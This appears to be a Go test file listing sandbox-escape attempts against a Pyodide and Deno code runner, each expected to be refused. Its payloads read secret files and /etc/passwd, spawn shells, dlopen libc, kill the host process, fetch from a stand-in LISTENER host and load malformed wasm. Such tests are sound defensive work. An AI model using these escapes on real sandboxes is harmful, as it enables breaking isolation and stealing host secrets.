//go:build linux

package hostile

// escapes are the published ways out of runners of this kind, and what else
// one would try.
var escapes = []attack{
	// CVE-2026-25905, CVE-2025-68668: from Python to the engine that hosts it.
	{row: "E1", name: "js.process", lang: python, code: "import js\nprint(js.process.env)", want: refused},
	{row: "E1b", name: "js.eval", lang: python, code: "import js\nprint(js.eval('1+1'))", want: refused},
	{row: "E1c", name: "js.Function", lang: python, code: "from js import Function\nprint(Function.new('return 1+1')())", want: refused},
	{row: "E1d", name: "js.fetch", lang: python, code: "import js\nprint(await js.fetch('http://LISTENER/'))", want: refused},
	{row: "E1e", name: "js.Deno", lang: python, code: "import js\nprint(js.Deno.readTextFileSync('SECRETFILE'))", want: refused},
	{row: "E1f", name: "js.globalThis", lang: python, code: "import js\nprint(js.globalThis.constructor.constructor('return 7')())", want: refused},
	{row: "E1g", name: "js.importScripts", lang: python, code: "import js\njs.importScripts('http://LISTENER/x.js')", want: refused},
	{row: "E2", name: "pyodide.code.run_js", lang: python, code: "from pyodide.code import run_js\nprint(run_js('1+1'))", want: refused},
	{row: "E2b", name: "pyodide_js", lang: python, code: "import pyodide_js\nprint(pyodide_js._module, pyodide_js.FS.readdir('/'))", want: refused},
	{row: "E2c", name: "pyodide_js._api", lang: python, code: "import pyodide_js\nprint(pyodide_js._api.rawRun('1'), pyodide_js._api.public_api)", want: refused},
	{row: "E2d", name: "mounts the host", lang: python, code: "import pyodide_js\npyodide_js.mountNodeFS('/mnt', '/')", want: refused},
	{row: "E2e", name: "_pyodide_core", lang: python, code: "import _pyodide_core\nfor n in dir(_pyodide_core):\n    f = getattr(_pyodide_core, n)\n    for args in ((), ('1+1',), ('1', '2')):\n        try: f(*args)\n        except BaseException: pass\n'done'"},
	{row: "E2f", name: "create_proxy and JsProxy", lang: python, code: "from pyodide.ffi import create_proxy, to_js, JsProxy\np = create_proxy(print)\nJsProxy.__new__(JsProxy)"},
	{row: "E2g", name: "pyodide.http", lang: python, code: "from pyodide.http import pyfetch, open_url\nfor f in (open_url,):\n    try: print('reached', f('http://LISTENER/').read())\n    except Exception as e: print(type(e).__name__)\ntry: print('reached', await pyfetch('http://LISTENER/'))\nexcept Exception as e: print(type(e).__name__)", not: "reached"},
	{row: "E2h", name: "micropip from the host's disk", lang: python, code: "import micropip\nfor what in ('file://SECRETFILE', 'emfs:/etc/passwd', 'emfs:SECRETFILE', 'http://LISTENER/x-1-py3-none-any.whl'):\n    try:\n        await micropip.install(what); print('reached', what)\n    except Exception as e: print(type(e).__name__)", not: "reached"},

	// CVE-2026-24002: through ctypes to what Emscripten exports.
	{row: "E3", name: "emscripten_run_script", lang: python, code: evaluators(`["emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string", "emscripten_async_run_script"]`), not: "evaluated"},
	{row: "E3c", name: "asm constants", lang: python, code: evaluators(`["emscripten_asm_const_int", "emscripten_asm_const_double", "emscripten_asm_const_ptr"]`), not: "evaluated"},
	{row: "E3d", name: "raw_call_js", lang: python, code: evaluators(`["raw_call_js", "run_js", "_pyproxy_apply", "hiwire_call", "JsvFunction_CallBound", "JsvObject_New", "js2python", "PyodideSuspender_get", "descr_get", "wasm_import"]`), not: "evaluated"},
	{row: "E3e", name: "system, popen, fork", lang: python, code: `
import os, subprocess, ctypes
for f in (lambda: os.system("id"), lambda: os.popen("id").read(), lambda: subprocess.run(["id"]), os.fork,
          lambda: os.posix_spawn("/bin/sh", ["sh"], {}), lambda: os.execv("/bin/sh", ["sh"]),
          lambda: ctypes.CDLL(None).system(b"id")):
    try: print("reached" if f() in (0, b"") else "no")
    except BaseException as e: print(type(e).__name__)`, not: "uid="},
	{row: "E3g", name: "dlopen of the host's library", lang: python, code: "import ctypes\nfor n in ('/lib/x86_64-linux-gnu/libc.so.6', 'libc.so.6', '../../lib/libc.so', 'SECRETFILE'):\n    try: ctypes.CDLL(n); print('reached', n)\n    except OSError as e: print('no')", not: "reached"},
	{row: "E3h", name: "dlopen of hostile wasm", lang: python, code: hostileModules + "for name, body in cases.items():\n    if name != 'start loops': load(body)\nprint('others refused')", timeout: 60, want: succeeded, has: "others refused"},
	{row: "E3i", name: "dlopen of wasm that loops", lang: python, code: hostileModules + "load(cases['start loops'])", timeout: 1, want: timedOut},
	{row: "E3j", name: "signals to the server", lang: python, code: "import os, signal\nfor f in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(1, 9), lambda: os.kill(-1, 9), lambda: os.killpg(0, 9), lambda: os.kill(2, 15), lambda: signal.pthread_kill(1, 9)):\n    try: f(); print('sent')\n    except (OSError, AttributeError) as e: print(type(e).__name__)", not: "sent"},

	// GHSA-8h84-8vq7-j6cv: memory of the host behind sizes that the guest chooses.
	{row: "E6", name: "reads of chosen sizes", lang: python, timeout: 60, want: succeeded, has: "done", code: `
import array, os, socket
r, w = os.pipe()
os.write(w, b"x")
f = os.open("f", os.O_RDWR | os.O_CREAT)
big = 2**31 - 1
def pair(call):
    a, b = socket.socketpair()
    b.send(b"x")
    return call(a)
for what in (lambda: os.read(r, big), lambda: pair(lambda s: s.recv(big)), lambda: pair(lambda s: s.recv(big, socket.MSG_PEEK)), lambda: pair(lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, big)),
             lambda: os.getrandom(big), lambda: os.urandom(big), lambda: os.pread(f, big, 1 << 40), lambda: os.preadv(f, [bytearray(1)] * 100000, 0), lambda: os.writev(f, [b"x"] * 100000),
             lambda: os.posix_fallocate(f, 0, 1 << 50), lambda: os.truncate("f", (1 << 63) - 1), lambda: os.copy_file_range(f, f, big), lambda: os.sendfile(f, f, 0, big), lambda: os.readlink("/" * 10**7),
             lambda: os.mkdir("x" * 10**8), lambda: os.listdir("/x" * 10**7), lambda: os.open("/dev/zero", 0) and os.read(os.open("/dev/zero", 0), big), lambda: os.dup2(r, big),
             lambda: __import__("select").select(range(1 << 20), [], [], 0), lambda: __import__("select").poll().poll(0), lambda: __import__("mmap").mmap(-1, big), lambda: socket.getaddrinfo("x" * 10**7, 80), lambda: os.sysconf(big)):
    print(what.__code__.co_names, flush=True)
    try: what()
    except (OSError, MemoryError, ValueError, OverflowError, AttributeError, TypeError): pass
"done"`},

	// Deno: from JavaScript to the host.
	{row: "E4", name: "Deno.Command", lang: javascript, code: "console.log(new TextDecoder().decode(new Deno.Command('cat', { args: ['SECRETFILE'] }).outputSync().stdout))", want: refused},
	{row: "E4b", name: "child_process", lang: javascript, code: "import { execSync, spawnSync, fork } from 'node:child_process'; for (const f of [() => execSync('cat SECRETFILE'), () => { const r = spawnSync('cat', ['SECRETFILE']); if (r.error) throw r.error; return r.stdout }, () => fork('SECRETFILE.ts')]) { try { console.log(String(f())) } catch (e) { console.log(e.name) } }", want: []string{"failed", "succeeded"}},
	{row: "E4c", name: "FFI", lang: javascript, code: "Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } })", want: refused},
	{row: "E4d", name: "native addon", lang: javascript, code: "import process from 'node:process'; process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6')", want: refused},
	{row: "E4e", name: "UnsafePointer", lang: javascript, code: "new Deno.UnsafePointerView(Deno.UnsafePointer.create(4096n)).getUint8()", want: refused},
	{row: "E4f", name: "worker with more permissions", lang: javascript, code: "const w = new Worker('data:text/javascript,postMessage(Deno.readTextFileSync(\"SECRETFILE\"))', { type: 'module', deno: { permissions: { read: true } } }); await new Promise((f) => { w.onmessage = (e) => { console.log('reached', e.data); f() }; w.onerror = f })", timeout: 30, roomy: true, want: refused, not: "reached"},
	{row: "E4g", name: "worker that reads", lang: javascript, code: "const w = new Worker('data:text/javascript,try { postMessage(Deno.readTextFileSync(\"SECRETFILE\")) } catch (e) { postMessage(e.name) }', { type: 'module' }); console.log(await new Promise((f) => { w.onmessage = (e) => f(e.data); w.onerror = (e) => f(e.message) })); Deno.exit(0)", timeout: 30, roomy: true, want: succeeded, has: "NotCapable"},
	{row: "E4h", name: "node:worker_threads", lang: javascript, code: "import { Worker } from 'node:worker_threads'; new Worker('SECRETFILE.ts').on('error', (e) => { console.log(e.name); Deno.exit(0) })", timeout: 30, roomy: true, has: "NotCapable"},
	{row: "E4i", name: "node:vm", lang: javascript, code: "import vm from 'node:vm'; const f = vm.runInNewContext('this.constructor.constructor(\"return globalThis\")()'); console.log(f.Deno ? f.Deno.readTextFileSync('SECRETFILE') : 'no')"},
	{row: "E4j", name: "inspector", lang: javascript, code: "import inspector from 'node:inspector'; inspector.open(0, '127.0.0.1'); console.log('reached', inspector.url())", want: nil, not: "reached ws"},
	{row: "E4k", name: "inspector by signal", lang: javascript, code: "process.kill(process.pid, 'SIGUSR1'); await new Promise((f) => setTimeout(f, 100)); console.log('alive')", want: []string{"failed", "succeeded"}},
	{row: "E4l", name: "inspector session", lang: javascript, code: "import inspector from 'node:inspector'; const s = new inspector.Session(); s.connect(); s.post('Runtime.evaluate', { expression: 'Deno.readTextFileSync(\"SECRETFILE\")', includeCommandLineAPI: true }, (e, r) => console.log(JSON.stringify(r)))"},
	{row: "E4m", name: "signals to the server", lang: javascript, code: "for (const f of [() => Deno.kill(Deno.ppid, 'SIGKILL'), () => process.kill(Deno.ppid, 9), () => process.kill(-Deno.ppid, 9), () => process.kill(0, 'SIGTERM')]) { try { f(); console.log('reached') } catch (e) { console.log(e.name) } }", not: "reached"},
	{row: "E4n", name: "inherited descriptors", lang: javascript, code: "import fs from 'node:fs'; for (let fd = 3; fd < 64; fd++) { try { fs.writeSync(fd, 'evil\\n'); console.log('wrote', fd) } catch {} try { const b = Buffer.alloc(100); const n = fs.readSync(fd, b, 0, 100, 0); console.log('read', fd, n) } catch {} }\n1", timeout: 2},
	{row: "E4o", name: "Deno's own internals", lang: javascript, code: "const i = Deno[Deno.internal]; const o = i?.core?.ops ?? {}; let n = 0; for (const k of Object.keys(o)) { if (/read|spawn|dlopen|run|open/.test(k)) { try { const r = o[k]('SECRETFILE', true, {}); n++; console.log(String(r).slice(0, 50)) } catch {} } }\nn", timeout: 3},
	{row: "E4p", name: "grants itself", lang: javascript, code: "Deno.permissions.querySync = () => ({ state: 'granted' }); Deno.core?.ops?.op_request_permission?.({ name: 'read' }); Deno.readTextFileSync('SECRETFILE')", want: refused},
	{row: "E4q", name: "changes the bootstrap's tools", lang: javascript, code: "JSON.stringify = () => 'evil'; TextEncoder.prototype.encode = () => { throw 1 }; Deno.inspect = () => 'evil'; Object.keys = () => []; Promise.prototype.then = () => {}; 7", want: succeeded, not: "evil"},
	{row: "E4r", name: "answers for itself", lang: javascript, code: "export { x as 'coderunner:result' }; const x = { get a() { Deno.exit(0) } }; x"},
	{row: "E4s", name: "SharedArrayBuffer and wasm", lang: javascript, code: "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 5, 6, 1, 0, 255, 255, 255, 255]))", want: refused},
	{row: "E4t", name: "core dump of the process", lang: javascript, code: "process.report?.writeReport?.('/var/tmp/evil'); import('node:v8').then((v8) => v8.writeHeapSnapshot('/var/tmp/evil'))", want: nil},
	{row: "E4u", name: "npm package with a script", lang: javascript, code: "import '../../../../../../etc/passwd'", want: refused},
	{row: "E4w", name: "SQLite opens, attaches, copies, loads", lang: javascript, timeout: 30, code: `
import { DatabaseSync } from "node:sqlite";
const tries = [() => new DatabaseSync("SECRETFILE"), () => new DatabaseSync("file:SECRETFILE?mode=ro"), () => new DatabaseSync("/var/tmp/evil.db").exec("create table t(x)")];
for (const sql of ["ATTACH DATABASE 'SECRETFILE' AS x", "VACUUM INTO '/var/tmp/evil.db'", "SELECT readfile('SECRETFILE')", "SELECT load_extension('SECRETFILE')", "PRAGMA temp_store_directory = '/var/tmp'; ATTACH '/var/tmp/evil.db' AS y"]) tries.push(() => { const db = new DatabaseSync(":memory:", { allowExtension: true }); db.enableLoadExtension?.(true); db.exec(sql); return sql });
for (const f of tries) { try { f(); console.log("done", String(f)) } catch (e) { console.log("no") } }
1`, want: succeeded, not: "done"},
	{row: "E4x", name: "Deno's other doors", lang: javascript, timeout: 30, code: `
for (const f of [() => Deno.bundle({ entrypoints: ["SECRETFILE.ts"], write: false }), () => Deno.openKv("SECRETFILE"),
  () => Deno.cron("x", "* * * * *", () => {}), () => Deno.listenTls({ port: 0 }), () => Deno.networkInterfaces(), () => Deno.osUptime(), () => Deno.makeTempDirSync({ dir: "/var/tmp" }), () => Deno.watchFs("/etc").next?.(),
  () => Deno.utimeSync("SECRETFILE", 0, 0), () => Deno.chmodSync("SECRETFILE", 0o777), () => Deno.removeSync("SECRETFILE"), () => Deno.statSync("SECRETFILE"), () => Deno.realPathSync("SECRETFILE"), () => Deno.readLinkSync("/proc/self/exe"), () => Deno.truncateSync("SECRETFILE")]) {
  try { await f(); console.log("reached", String(f)) } catch (e) { console.log("no") }
}
Deno.exit(0)`, want: succeeded, not: "reached"},
	{row: "E4v", name: "umask and chdir", lang: javascript, code: "try { Deno.chdir('/'); console.log('reached', Deno.cwd()) } catch (e) { console.log(e.name) }\nDeno.umask?.(0); 1"},
}

// evaluators calls functions with JavaScript that would give itself away.
func evaluators(names string) string {
	return `
import ctypes
lib = ctypes.CDLL(None)
script = b"globalThis.evaluated = 'eval' + 'uated'; console.log('eval' + 'uated'); 'eval' + 'uated'"
for name in ` + names + `:
    try: f = getattr(lib, name)
    except AttributeError: print(name, "is not there"); continue
    f.restype = ctypes.c_char_p if name.endswith("string") else ctypes.c_int
    try: print(name, f(script, 0, 0))
    except BaseException as e: print(name, type(e).__name__)
`
}

// hostileModules are side modules that are wrong in many ways, and what loads
// them.
const hostileModules = `
import ctypes, random, struct
def leb(n):
    out = b""
    while True:
        out += bytes([n & 127 | (128 if n > 127 else 0)]); n >>= 7
        if not n: return out
def section(i, body): return bytes([i]) + leb(len(body)) + body
def dylink(mem, align, table, talign):
    info = leb(mem) + leb(align) + leb(table) + leb(talign)
    return section(0, b"\x08dylink.0" + bytes([1]) + leb(len(info)) + info)
head = b"\0asm\1\0\0\0"
loop = section(1, b"\1\x60\0\0") + section(3, b"\1\0") + section(8, b"\0") + section(10, b"\1\7\0\3\x40\x0c\0\x0b\x0b")
cases = {
    "empty": b"", "no wasm": b"#!/bin/sh", "head only": head, "no dylink": head + loop,
    "4 GB": head + dylink(0xffffffff, 0, 0, 0), "huge table": head + dylink(0, 0, 0xffffffff, 0),
    "alignment": head + dylink(16, 31, 16, 31), "negative": head + dylink(2**40, 2**40, 0, 0),
    "start loops": head + dylink(0, 0, 0, 0) + loop,
    "long section": head + b"\0" + leb(0xffffffff), "unknown import": head + dylink(0, 0, 0, 0) + section(2, b"\1\3env\6nobody\0\0"),
}
random.seed(1)
for i in range(40):
    b = bytearray(cases["start loops"])
    for _ in range(3): b[random.randrange(8, len(b))] = random.randrange(256)
    cases["random %d" % i] = bytes(b)
def load(body):
    open("x.so", "wb").write(body)
    try: ctypes.CDLL("./x.so")
    except OSError: pass
`
